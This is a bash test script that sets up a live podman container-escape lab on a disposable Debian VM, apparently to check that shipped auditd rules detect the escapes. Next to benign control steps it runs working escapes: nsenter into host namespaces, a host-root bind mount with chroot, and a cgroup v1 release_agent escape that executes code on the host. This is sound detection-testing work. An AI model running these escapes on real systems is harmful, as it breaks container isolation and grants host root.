#!/usr/bin/env bash
# Live container-escape lab, podman variant (docs: tests/lab/README.md): rootful podman with conmon and crun from
# Debian packages, real escapes and benign controls, captured by auditd (ENRICHED, the shipped rules) and
# `podman events --format json`.
#
#   sudo tests/lab/podman_lab.sh OUTDIR
#
# Root on a disposable Debian 12 VM (not in a container). Installs auditd, podman and crun from Debian, imports a
# busybox image offline, runs every step between audit markers, and tears everything down on exit, also after a
# failure: auditd stopped by pid, audit rules removed and audit settings restored, lab containers, image and podman
# state removed, the cgroup-v1 hierarchies the lab mounted released, release_agent emptied.
# Exit 77 when a precondition is missing (the pytest then skips). Writes to OUTDIR: audit.log, podman-events.json,
# timeline.tsv (epoch, BEGIN|END, step, label, description), steps.log, restore.txt, rules.loaded, versions.txt.
set -uo pipefail

OUT=${1:?usage: podman_lab.sh OUTDIR}
HERE=$(cd "$(dirname "$0")" && pwd)
RULES=$HERE/../../package/README/escape_to_host.rules
TAG=t1611-podman
WORK=/tmp/podman-lab.$$
PODMAN=/usr/bin/podman            # Debian's, never whatever else is first on PATH
STORAGE=/var/lib/containers/storage
RUNROOT=/run/containers/storage
mkdir -p "$OUT" "$WORK"
OUT=$(cd "$OUT" && pwd)
STEPLOG=$OUT/steps.log
TIMELINE=$OUT/timeline.tsv
: > "$STEPLOG"; : > "$TIMELINE"

say() { echo "podman_lab: $*" >&2; }
skip() { say "SKIP: $*"; exit 77; }

# ---- 1. preconditions and what teardown must restore -----------------------------------------------------------
[ "$(id -u)" = 0 ] || skip "needs root"
if grep -qaE 'docker|kubepods|containerd|lxc|libpod' /proc/1/cgroup 2>/dev/null; then skip "runs in a container"; fi
command -v apt-get >/dev/null || skip "needs apt-get (Debian)"
[ -f "$RULES" ] || skip "the shipped audit rules are missing ($RULES)"
for tool in auditd conmon podman; do
  if pgrep -x "$tool" >/dev/null 2>&1; then skip "$tool is already running: this lab needs the machine to itself"; fi
done
if command -v auditctl >/dev/null && [ "$(auditctl -s | awk '/^pid/{print $2}')" != "0" ]; then
  skip "another process holds the audit netlink socket"
fi
if command -v auditctl >/dev/null && [ "$(auditctl -l 2>/dev/null)" != "No rules" ]; then skip "audit rules are already loaded"; fi
# The lab removes podman's state at the end: it refuses to run over someone else's containers or images.
if [ -x "$PODMAN" ] && [ -n "$($PODMAN ps -aq 2>/dev/null)$($PODMAN images -q 2>/dev/null)" ]; then
  skip "podman holds containers or images already"
fi

T0=$(date +%s)
say "apt-get update and install"
export DEBIAN_FRONTEND=noninteractive
apt-get update -qq >/dev/null 2>&1 || skip "apt-get update failed (no Debian mirror?)"
apt-get install -y -qq --no-install-recommends auditd busybox-static podman crun conmon util-linux procps \
    >/dev/null 2>&1 || skip "package install failed"

AUDIT_ENABLED=$(auditctl -s | awk '/^enabled/{print $2}')
AUDIT_BACKLOG=$(auditctl -s | awk '/^backlog_limit/{print $2}')
AUDIT_WAIT=$(auditctl -s | awk '/^backlog_wait_time /{print $2}')
CAPBND=$(awk '/^CapBnd/{print $2}' /proc/self/status)
V2_CONTROLLERS=$(cat /sys/fs/cgroup/unified/cgroup.controllers 2>/dev/null)
printf 'audit_enabled=%s\nbacklog_limit=%s\nbacklog_wait_time=%s\nCapBnd=%s\ncgroup2_controllers=%s\n' \
  "$AUDIT_ENABLED" "$AUDIT_BACKLOG" "$AUDIT_WAIT" "$CAPBND" "$V2_CONTROLLERS" > "$OUT/restore.txt"
{ $PODMAN --version; conmon --version | head -1; crun --version | head -1; auditctl -v; uname -r; } > "$OUT/versions.txt" 2>&1

AUDITD_PID=""; EVENTS_PID=""; V1_MOUNTS=""
release_hierarchy() {  # a cgroup-v1 hierarchy the lab mounted: empty it, unmount it, and let the kernel drop it
  local dir=$1 name=$2
  find "$dir" -mindepth 1 -depth -type d -exec rmdir {} \; 2>/dev/null
  umount "$dir" 2>/dev/null
  # A hierarchy that still had cgroups when it was unmounted stays bound: mount it once more, empty, and unmount.
  if awk -v n="$name" '$1 == n && $2 != 0 {found=1} END {exit !found}' /proc/cgroups; then
    mount -t cgroup -o "$name" cgroup "$dir" && find "$dir" -mindepth 1 -depth -type d -exec rmdir {} \; 2>/dev/null
    umount "$dir" 2>/dev/null
  fi
  rmdir "$dir" 2>/dev/null
}
teardown() {
  set +e
  say "teardown"
  if [ -x "$PODMAN" ]; then
    ids=$($PODMAN ps -aq --filter name=lab- 2>/dev/null); [ -n "$ids" ] && $PODMAN rm -f -t 0 $ids >/dev/null 2>&1
    $PODMAN rmi -f lab/busybox:latest >/dev/null 2>&1
  fi
  [ -n "$EVENTS_PID" ] && kill "$EVENTS_PID" 2>/dev/null
  for monitor in $(pgrep -x conmon); do kill "$monitor" 2>/dev/null; done
  [ -x "$PODMAN" ] && $PODMAN system reset -f >/dev/null 2>&1
  rm -rf "$STORAGE" "$RUNROOT" /run/libpod /run/crun /var/lib/containers/cache
  for d in /sys/fs/cgroup/*/; do
    [ -f "$d/release_agent" ] && [ -n "$(cat "$d/release_agent" 2>/dev/null)" ] && echo > "$d/release_agent"
    [ -d "$d/labx" ] && rmdir "$d/labx" 2>/dev/null
    [ -d "$d/libpod_parent" ] && find "$d/libpod_parent" -depth -type d -exec rmdir {} \; 2>/dev/null
  done
  for name in $V1_MOUNTS; do release_hierarchy "$WORK/cgroup-$name" "$name"; done
  if [ -n "$AUDITD_PID" ]; then
    auditctl -D >/dev/null 2>&1
    kill "$AUDITD_PID" 2>/dev/null; for _ in $(seq 30); do kill -0 "$AUDITD_PID" 2>/dev/null || break; sleep 0.2; done
    cat "$WORK"/auditlog/audit.log.* "$WORK"/auditlog/audit.log 2>/dev/null > "$OUT/audit.log"
  fi
  auditctl -D >/dev/null 2>&1
  auditctl -b "$AUDIT_BACKLOG" --backlog_wait_time "$AUDIT_WAIT" -e "$AUDIT_ENABLED" >/dev/null 2>&1
  echo "cgroup2_controllers_after=$(cat /sys/fs/cgroup/unified/cgroup.controllers 2>/dev/null)" >> "$OUT/restore.txt"
  rm -rf "$WORK"
  say "done in $(( $(date +%s) - T0 )) s"
}
trap teardown EXIT

# ---- 2. auditd without systemd, the shipped rules plus the lab's release_agent watches --------------------------
mkdir -p "$WORK/auditconf" "$WORK/auditlog"
sed -e "s#^log_file.*#log_file = $WORK/auditlog/audit.log#" -e 's#^log_format.*#log_format = ENRICHED#' \
    -e 's#^max_log_file_action.*#max_log_file_action = keep_logs#' /etc/audit/auditd.conf > "$WORK/auditconf/auditd.conf"
chmod 0640 "$WORK/auditconf/auditd.conf"
auditd -n -c "$WORK/auditconf" > "$WORK/auditd.out" 2>&1 &
AUDITD_PID=$!
for _ in $(seq 50); do [ "$(auditctl -s | awk '/^pid/{print $2}')" = "$AUDITD_PID" ] && break; sleep 0.1; done
[ "$(auditctl -s | awk '/^pid/{print $2}')" = "$AUDITD_PID" ] || { say "auditd did not start: $(cat "$WORK/auditd.out")"; exit 77; }
{
  cat "$RULES"
  for agent in /sys/fs/cgroup/*/release_agent; do [ -f "$agent" ] && echo "-w $agent -p wa -k $TAG"; done
} > "$WORK/lab.rules"
auditctl -R "$WORK/lab.rules" >/dev/null || { say "auditctl -R failed"; exit 1; }
auditctl -l > "$OUT/rules.loaded"

marker() { auditctl -m "$TAG marker: $*"; }
step() {  # step ID LABEL DESCRIPTION -- command...
  local id=$1 label=$2 description=$3; shift 4
  local begin end rc
  begin=$(date +%s.%N); marker "BEGIN $id $label $description"
  printf '%s\tBEGIN\t%s\t%s\t%s\n' "$begin" "$id" "$label" "$description" >> "$TIMELINE"
  { echo "=== $begin BEGIN $id $label $description"; echo "+ $*"; } >> "$STEPLOG"
  timeout 60 "$@" >> "$STEPLOG" 2>&1; rc=$?
  end=$(date +%s.%N); marker "END $id rc=$rc"
  printf '%s\tEND\t%s\t%s\t%s\n' "$end" "$id" "$label" "rc=$rc" >> "$TIMELINE"
  echo "=== $end END $id rc=$rc" >> "$STEPLOG"
  sleep 1
}

# ---- 3. podman's configuration for this VM kind ------------------------------------------------------------------
# No systemd: cgroupfs and the file event logger. crun refuses a hybrid cgroup layout whose v2 hierarchy still holds
# controllers ("cgroups in hybrid mode not supported"): mount each of them as its own v1 hierarchy for the run.
for name in $V2_CONTROLLERS; do
  if [ -d /sys/fs/cgroup/unified ] && mkdir -p "$WORK/cgroup-$name" && mount -t cgroup -o "$name" cgroup "$WORK/cgroup-$name"; then
    V1_MOUNTS="$V1_MOUNTS $name"
  fi
done
LIMITS=""
CAPFIX=""
if [ $(( 0x$CAPBND >> 24 & 1 )) = 0 ]; then
  # Without CAP_SYS_RESOURCE in the bounding set crun can neither raise RLIMIT_NOFILE past the hard limit nor keep
  # the capability for --privileged: podman's default ulimits are lowered and privileged runs drop it.
  LIMITS='default_ulimits = ["nofile=1024:1024", "nproc=4096:4096"]'
  CAPFIX="--cap-drop SYS_RESOURCE"
fi
cat > "$WORK/containers.conf" <<EOF
[containers]
$LIMITS
[engine]
cgroup_manager = "cgroupfs"
events_logger = "file"
runtime = "crun"
EOF
export CONTAINERS_CONF=$WORK/containers.conf

# ---- 4. the image without a registry ----------------------------------------------------------------------------
mkdir -p "$WORK/busybox/bin"
cp /bin/busybox "$WORK/busybox/bin/busybox"
for applet in sh echo cat ls id chroot httpd ps wc hostname sleep mount umount unshare nsenter sed printf mkdir rmdir \
    chmod true grep head; do ln -sf busybox "$WORK/busybox/bin/$applet"; done
tar -C "$WORK/busybox" -c . | $PODMAN import -c 'CMD ["/bin/sh"]' - lab/busybox:latest >/dev/null \
  || { say "podman import failed"; exit 1; }

$PODMAN events --format json > "$OUT/podman-events.json" 2>/dev/null &
EVENTS_PID=$!
sleep 1
say "steps (preparation took $(( $(date +%s) - T0 )) s)"
marker "phase=steps start"

# ---- 5. steps ---------------------------------------------------------------------------------------------------
R="$PODMAN run --network none --name"
step B01 benign "short-lived default container" -- $R lab-b01 --rm lab/busybox echo hello
step B02 benign "detached service container" -- $R lab-b02 -d lab/busybox httpd -f -p 8080
step B03 benign "podman exec ps in the running container" -- $PODMAN exec lab-b02 ps
step B04 benign "stop and remove the service container" -- $PODMAN rm -f -t 2 lab-b02
# A dozen short-lived privileged containers, each removed before the next starts: the kernel hands the next one the
# same anonymous device for its overlay root, so only the runtime's own arguments tell them apart.
for n in 01 02 03 04 05 06 07 08 09 10 11 12; do
  step "S$n" suspicious "short-lived privileged container $n: unshare --mount, removed" -- \
    $R "lab-s$n" --rm --privileged $CAPFIX lab/busybox unshare -m true
done
step E01 escape "privileged pid=host: nsenter into auditd's namespaces" -- \
  $R lab-e01 --rm --privileged $CAPFIX --pid=host lab/busybox nsenter -t "$AUDITD_PID" -m -u -i -n -p -- /bin/sh -c 'id; hostname'
step E02 escape "host root bind -v /:/host + chroot" -- $R lab-e02 --rm -v /:/host lab/busybox chroot /host /bin/sh -c 'id; cat /etc/hostname'
step E03 escape "cgroup v1 release_agent (freezer)" -- $R lab-e03 --rm --privileged $CAPFIX lab/busybox sh -c 'd=/tmp/cgrp; mkdir -p $d && mount -t cgroup -o freezer cgroup $d && mkdir -p $d/labx && echo 1 > $d/labx/notify_on_release && host_path=$(sed -n "s/.*upperdir=\([^,]*\).*/\1/p" /proc/self/mounts | head -1) && echo "$host_path/cmd" > $d/release_agent && printf "#!/bin/sh\nid > $host_path/output\n" > /cmd && chmod a+x /cmd && sh -c "echo \$\$ > $d/labx/cgroup.procs" && sleep 2; cat /output; rmdir $d/labx; echo > $d/release_agent; umount $d'
step B05 benign "detached privileged pid=host container (sleeps)" -- $R lab-e04 -d --privileged $CAPFIX --pid=host lab/busybox sleep 120
step E04 escape "podman exec into it: nsenter into auditd's namespaces" -- \
  $PODMAN exec lab-e04 nsenter -t "$AUDITD_PID" -m -u -i -n -p -- /bin/sh -c 'id; hostname'
step B06 benign "remove that container" -- $PODMAN rm -f -t 0 lab-e04
# podman's default seccomp profile lets a default container create a user namespace (docker's does not) and refuses
# the mount namespace: the step is suspicious, not a blocked attempt.
step E05 suspicious "unshare -U (allowed) and -m (refused) in a default container" -- $R lab-e05 --rm lab/busybox sh -c 'unshare -U id; unshare -m true; echo done'
step B07 benign "short-lived default container after the attacks" -- $R lab-b07 --rm lab/busybox echo end
marker "phase=steps end"
sleep 1
say "steps done after $(( $(date +%s) - T0 )) s"
exit 0
